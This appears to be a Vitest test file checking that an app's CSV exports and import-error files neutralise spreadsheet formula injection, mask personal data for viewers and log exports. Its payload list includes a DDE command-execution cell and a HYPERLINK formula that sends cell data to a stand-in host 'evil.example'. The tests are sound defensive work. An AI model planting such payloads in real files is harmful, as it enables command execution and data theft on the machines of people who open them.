import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { uuidv7 } from 'uuidv7';
import { insertImportErrors, insertPeople, noContact } from '@perennial/db';
import { readRows } from '@perennial/ingest';
import { harmlessCell } from '../http/csv.ts';
import { addColleague } from '../testing/accounts.ts';
import { testApi, type Anything, type TestApi } from '../testing/api.ts';

/** Cells that Excel, LibreOffice or Google Sheets would run. */
const formulas = [
  '=1+1',
  '=cmd|" /C calc"!A0',
  '=HYPERLINK("https://evil.example?"&A1)',
  '+1+cmd|"x"!A0',
  '-1+2;=3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];
const runs = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?[\d\s().,-]+$/.test(cell);

let api: TestApi;
let person: string;
beforeAll(async () => {
  api = await testApi();
  person = uuidv7();
  const { workspace } = api.owner;
  const attributes = Object.fromEntries(formulas.map((text, index) => [`a${index}`, text]));
  await api.db.inWorkspace(workspace, async (tx) => {
    await insertPeople(tx, api.vault, workspace, [{ contact: noContact(person), firstSeen: 0, lastSeen: 0 }]);
    await tx.query('update people set attributes = $1, sealed = $2, sealed_names = $3', [
      JSON.stringify({ ...attributes, level: -5, '=1+1': 'x' }),
      api.vault.seal({ name: '=王', email: 'ada@example.com', phone: '+8613800138000' }),
      ['name', 'email', 'phone'],
    ]);
  });
});
afterAll(() => api.close());

async function cellsOf(text: string): Promise<string[][]> {
  const source = (async function* () {
    yield Buffer.from(text);
  })();
  const rows: string[][] = [];
  for await (const { cells } of readRows(source, { encoding: 'utf-8', delimiter: ',' }))
    rows.push([...cells]);
  return rows;
}
const exported = async (query = '', as?: Anything) =>
  api.call({ url: `/v1/exports/people${query}`, ...(as && { as }) });

describe('T8: a file that is taken out runs nothing', () => {
  it.each(formulas)('%j', (formula) => {
    expect(runs(formula)).toBe(true);
    expect(harmlessCell(formula)).toBe(`'${formula}`);
  });

  it.each(['-5', '+8613800138000', '-1.5', 'a=1', '王', '', "'", 'x\n=1'])('%j stays as it is', (cell) => {
    expect(harmlessCell(cell)).toBe(cell);
  });

  it('whatever people are called, or their attributes', async () => {
    const { text, headers } = await exported();
    expect(headers['content-type']).toMatch(/^text\/csv/);
    expect(headers['perennial-rows']).toBe('1');
    const [names, values] = (await cellsOf(text)) as [string[], string[]];
    expect([...names, ...values].filter(runs)).toEqual([]);
    const shown = Object.fromEntries(names.map((name, index) => [name, values[index]]));
    expect(shown).toMatchObject({ a0: "'=1+1", name: "'=王", phone: '+8613800138000', level: '-5' });
  });

  it('control: a writer that only quotes would let all of them through', async () => {
    const naive = formulas.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',');
    const [cells] = await cellsOf(`${naive}\r\n`);
    expect(cells!.filter(runs)).toHaveLength(formulas.length);
  });

  it('lines of JSON hold what is, for programs', async () => {
    const { text, headers } = await exported('?format=ndjson');
    expect(headers['content-type']).toMatch(/^application\/x-ndjson/);
    expect(JSON.parse(text)).toMatchObject({ id: person, a0: '=1+1', level: -5 });
  });

  it('nor do the rows that an import hands back, and nothing of them is lost', async () => {
    const answer = await api.call({
      method: 'POST',
      url: '/v1/imports?kind=people&file=f.csv',
      body: Buffer.from('id,note\n1,x\n'),
      headers: { 'content-type': 'application/octet-stream' },
    });
    const { id } = answer.body;
    await api.db.inWorkspace(api.owner.workspace, async (tx) => {
      await tx.query(`update imports set columns = '["id", "note"]' where id = $1`, [id]);
      await insertImportErrors(
        tx,
        api.vault,
        api.owner.workspace,
        id,
        formulas.map((cell, index) => ({
          row: index + 2,
          kept: false,
          problems: [{ code: 'not-a-number', column: 'note' }],
          cells: ['1', cell],
        })),
      );
    });
    const file = async (language: string) =>
      cellsOf((await api.call({ url: `/v1/imports/${id}/errors?language=${language}` })).text);
    const [names, ...rows] = await file('en');
    expect(names).toEqual(['id', 'note', 'Row', 'What to mend']);
    expect(rows.flat().filter(runs)).toEqual([]);
    expect(rows.map(([, cell]) => cell!.slice(1))).toEqual(formulas);
    expect(rows[0]!.at(-1)).toBe(
      'note: It is no number. Write it like 1234.50, or bring the column in as text.',
    );
    expect((await file('zh-CN'))[1]!.at(-1)).toMatch(/^note：不是数字/);
  });
});

describe('a file that is taken out', () => {
  it('shows names and addresses to those who may see them, and says in the audit log that it was', async () => {
    expect((await exported()).text).toContain('ada@example.com');
    const viewer = await addColleague(api, 'viewer');
    const masked = (await exported('', viewer)).text;
    expect(masked).not.toMatch(/ada@example|13800138000|王/);
    const { body } = await api.call({ url: '/v1/audit?action=exportPeople' });
    expect(body.items.length).toBeGreaterThan(1);
    expect(body.items[0]).toMatchObject({ subject: 'export:people', after: { format: 'csv', rows: 1 } });
  });

  it('begins with the mark of Excel where asked for', async () => {
    expect((await exported('?bom=true')).text.startsWith('\ufeff')).toBe(true);
    expect((await exported()).text.startsWith('\ufeff')).toBe(false);
  });

  it('holds members of a segment or of a stage only', async () => {
    const none = await exported(`?segment=${uuidv7()}`);
    expect(none.headers['perennial-rows']).toBe('0');
    expect((await exported('?model=five-stages&stage=loyalty')).headers['perennial-rows']).toBe('0');
  });

  it('events and consents, too', async () => {
    const { workspace } = api.owner;
    await api.db.inWorkspace(workspace, async (tx) => {
      await tx.query(
        `insert into events (workspace_id, seq, person_id, message_id, type, name, at, source, properties)
         values ($1, nextval('event_seq'), $2, 'm', 'track', 'Order Completed', '2026-01-02', 'server', '{"total": 5}'),
           ($1, nextval('event_seq'), $2, 'n', 'track', 'Looked', '2026-03-02', 'server', '{}')`,
        [workspace, person],
      );
      await tx.query(
        `insert into consents (workspace_id, person_id, channel, topic, status, at, source, wording)
         values ($1, $2, 'sms', '*', 'granted', '2026-01-01', 'shop', '=v3')`,
        [workspace, person],
      );
    });
    const events = await api.call({
      url: '/v1/exports/events?format=ndjson&name=Looked&name=Order%20Completed',
    });
    expect(
      events.text
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line)),
    ).toMatchObject([
      { id: 'm', person, name: 'Order Completed', at: '2026-01-02T00:00:00.000Z', properties: { total: 5 } },
      { id: 'n' },
    ]);
    const since = await api.call({ url: '/v1/exports/events?since=2026-02-01T00:00:00Z' });
    expect(since.headers['perennial-rows']).toBe('1');
    const consents = await cellsOf((await api.call({ url: '/v1/exports/consents' })).text);
    expect(consents[1]).toEqual([
      person,
      '',
      'sms',
      '*',
      'granted',
      '2026-01-01T00:00:00.000Z',
      'shop',
      "'=v3",
    ]);
  });
});
